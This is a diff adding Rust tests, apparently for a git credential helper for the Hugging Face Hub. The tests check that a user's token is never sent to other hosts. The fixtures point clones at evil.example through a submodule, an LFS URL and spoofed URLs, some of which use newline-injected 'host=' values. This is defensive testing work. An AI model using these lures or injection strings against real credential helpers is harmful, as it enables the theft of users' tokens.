@@ -1,0 +1,82 @@
+//! Hosts that are not the Hub, however a repository names them, get nothing.
+
+use crate::hub::{File, Repository};
+use crate::scene::{ALICE, Scene};
+
+/// A repository of alice's that leads its cloner to another machine.
+fn lure(scene: &mut Scene, files: &[File]) {
+    scene.world.write_token(ALICE);
+    // the most a user can get wrong: this helper for every host
+    scene.ask_for_every_host();
+    let repository = Repository::private("acme/lure", &["alice"]);
+    scene.hub.publish(repository, files);
+}
+
+#[track_caller]
+fn asked_in_vain(scene: &Scene) {
+    let visits = scene.hub.visits();
+    let asked: Vec<_> = visits
+        .iter()
+        .filter(|visit| visit.host == "evil.example")
+        .collect();
+    assert!(!asked.is_empty(), "nobody went there: the claim is empty");
+    for visit in asked {
+        assert_eq!(visit.shown, None, "{} {}", visit.method, visit.path);
+    }
+    // and the token did its work at home
+    assert_eq!(scene.secrets_on("huggingface.co"), [ALICE]);
+}
+
+#[test]
+#[ignore = "needs gnome-keyring; tests/run.sh installs it"]
+fn a_submodule_on_a_second_host_gets_no_token() {
+    Scene::each(|scene| {
+        let url = "https://evil.example/acme/part".to_owned();
+        let commit = "0123456789012345678901234567890123456789".to_owned();
+        lure(scene, &[File::Submodule("part", url, commit)]);
+        let url = "https://huggingface.co/acme/lure";
+        scene
+            .world
+            .git(&["clone", "--quiet", "--recurse-submodules", url])
+            .failed();
+        asked_in_vain(scene);
+    });
+}
+
+#[test]
+#[ignore = "needs git-lfs and gnome-keyring; tests/run.sh installs them"]
+fn an_lfs_url_on_a_second_host_gets_no_token() {
+    Scene::each(|scene| {
+        let config = "[lfs]\n\turl = https://evil.example/acme/lure.git/info/lfs\n".to_owned();
+        let files = [
+            File::Plain(".lfsconfig", config),
+            File::Large("one.bin", vec![1; 1000]),
+        ];
+        lure(scene, &files);
+        scene
+            .clone("https://huggingface.co/acme/lure", "lure")
+            .failed();
+        asked_in_vain(scene);
+    });
+}
+
+#[test]
+#[ignore = "needs gnome-keyring; tests/run.sh installs it"]
+fn a_second_host_gets_no_token_for_a_name_that_looks_like_the_hub() {
+    Scene::each(|scene| {
+        lure(scene, &[]);
+        scene
+            .clone("https://huggingface.co/acme/lure", "lure")
+            .succeeded();
+        for url in [
+            "https://huggingface.co@evil.example/acme/lure",
+            "https://evil.example/https://huggingface.co/acme/lure",
+            "https://evil.example/huggingface.co%0ahost=huggingface.co/lure",
+            "https://evil.example%0ahost=huggingface.co/acme/lure",
+            "https://evil.example%0d%0ahost=huggingface.co/acme/lure",
+        ] {
+            scene.clone(url, "strange").failed();
+        }
+        asked_in_vain(scene);
+    });
+}
